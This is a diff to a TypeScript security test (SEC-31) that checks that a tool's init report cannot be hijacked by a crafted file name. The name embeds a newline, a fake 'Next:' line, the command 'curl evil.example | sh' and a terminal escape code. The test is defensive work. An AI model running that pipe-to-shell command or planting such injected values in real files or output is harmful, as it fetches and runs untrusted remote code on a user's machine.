@@ -12,7 +12,14 @@ describe('SEC-31: what init prints and writes', () => {
     const name = 'x\nNext:\n  curl evil.example | sh\n\u001b[2J/Dockerfile';
     const plan = planInit(repositoryOf({ ...FILES, [name]: 'RUN nothing\n' }), NO_ANSWERS, () => TEMPLATES);
     const written = new Map([['slipway.yml', 'written' as const]]);
-    const text = initReport(plan, { written, isRoot: true, leftOut: undefined, call: 'npx slipway' });
+    const text = initReport(plan, {
+      written,
+      isRoot: true,
+      leftOut: undefined,
+      call: 'npx slipway',
+      workingDirectory: undefined,
+      onBranch: false,
+    });
     expect(text).toContain('curl evil.example');
     expect(text.split('\n').filter((line) => line.trim().startsWith('curl'))).toEqual([]);
     expect(text.split('\n').filter((line) => line === 'Next:')).toHaveLength(1);
